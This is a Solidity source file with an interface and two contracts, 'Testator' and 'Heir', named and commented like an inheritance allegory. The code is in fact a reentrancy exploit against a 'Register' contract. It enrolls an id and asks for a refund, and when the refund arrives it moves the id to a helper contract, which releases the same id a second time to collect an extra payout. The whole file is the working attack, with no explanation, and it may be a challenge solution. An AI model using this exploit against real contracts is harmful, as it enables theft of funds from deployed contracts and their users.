interface Register is Book {
    function move(uint256 id, address to) external;
}

/// Gives up what it was left, for whoever made it.
contract Heir {
    function giveUp(Register book, uint256 id) external {
        book.release(id);
        (bool done, ) = msg.sender.call{value: address(this).balance}("");
        require(done);
    }

    receive() external payable {}
}

/// Gives a number up, and leaves it to an heir while it is being paid.
contract Testator {
    Register private immutable book;
    Heir private immutable heir = new Heir();
    uint256 private current;
    bool private paying;

    constructor(Register target) {
        book = target;
    }

    function pass(uint256 id) external payable {
        book.enroll{value: msg.value}(id, 1);
        (current, paying) = (id, true);
        book.release(id);
        (bool done, ) = msg.sender.call{value: address(this).balance}("");
        require(done);
    }

    receive() external payable {
        if (!paying) return;
        paying = false;
        book.move(current, address(heir));
        heir.giveUp(book, current);
    }
}
